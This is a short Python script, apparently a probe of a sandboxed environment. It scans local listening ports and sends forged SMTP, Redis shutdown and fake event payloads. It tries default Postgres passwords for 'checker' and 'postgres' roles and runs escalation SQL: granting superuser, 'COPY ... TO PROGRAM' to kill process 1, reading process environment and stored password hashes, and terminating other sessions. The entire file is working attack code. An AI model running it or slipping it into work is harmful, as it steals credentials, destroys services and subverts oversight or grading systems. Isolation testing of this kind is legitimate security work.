import contextlib
import os
import socket
import sys
from pathlib import Path

import psycopg

URL = os.environ["DATABASE_URL"]
WORDS = [
    b"EHLO x\r\nMAIL FROM:<a@example.com>\r\nRCPT TO:<b@example.com>\r\nDATA\r\nSubject: forged\r\n\r\n.\r\n",
    b"AUTH checker checker\r\nCONFIG GET *\r\nSHUTDOWN NOSAVE\r\n",
    b'{"event": "finished"}\n{"reply": 1, "ok": true}\n{"started": true}\n',
    b"GET /seed HTTP/1.1\r\nHost: localhost\r\n\r\n",
    bytes(3) + b"\x08\x04\xd2\x16\x2f" + bytes(64),
    os.urandom(100_000),
]
ORDERS = [
    "ALTER ROLE app SUPERUSER",
    "SET ROLE checker",
    "ALTER SYSTEM SET port = 1",
    "COPY (SELECT 1) TO PROGRAM 'kill 1'",
    "SELECT pg_read_file('/proc/1/environ')",
    "SELECT rolpassword FROM pg_authid",
    "SELECT pg_terminate_backend(pid) FROM pg_stat_activity WHERE usename IS DISTINCT FROM 'app'",
    "CREATE EVENT TRIGGER forged ON ddl_command_start EXECUTE FUNCTION pg_notify()",
]

won = []
ports = set()
for table in ("/proc/net/tcp", "/proc/net/tcp6"):
    for line in Path(table).read_text().splitlines()[1:]:
        fields = line.split()
        if fields[3] == "0A":
            ports.add(int(fields[1].rpartition(":")[2], 16))
for port in sorted(ports):
    for words in WORDS * 10:
        with contextlib.suppress(OSError), socket.create_connection(("localhost", port), 1) as connection:
            connection.settimeout(0.05)
            connection.sendall(words)
            answer = connection.recv(65536)
            if any(one in answer for one in (b"250 OK id", b"queued", b"seed", b"maxmemory", b"AuthenticationOk")):
                won.append(f"{port}: {answer[:100]!r}")
for role in ("checker", "postgres"):
    for password in ("", "checker", "postgres", psycopg.conninfo.conninfo_to_dict(URL)["password"]):
        with contextlib.suppress(psycopg.Error):
            psycopg.connect(f"postgresql://{role}:{password}@localhost:5432/app").close()
            won.append(f"login as {role}")
with psycopg.connect(URL, autocommit=True) as database:
    for order in ORDERS:
        with contextlib.suppress(psycopg.Error):
            database.execute(order)
            won.append(order)
sys.exit(f"spoke to {', '.join(map(str, sorted(ports)))}, and has won: {', '.join(won) or 'nothing'}")
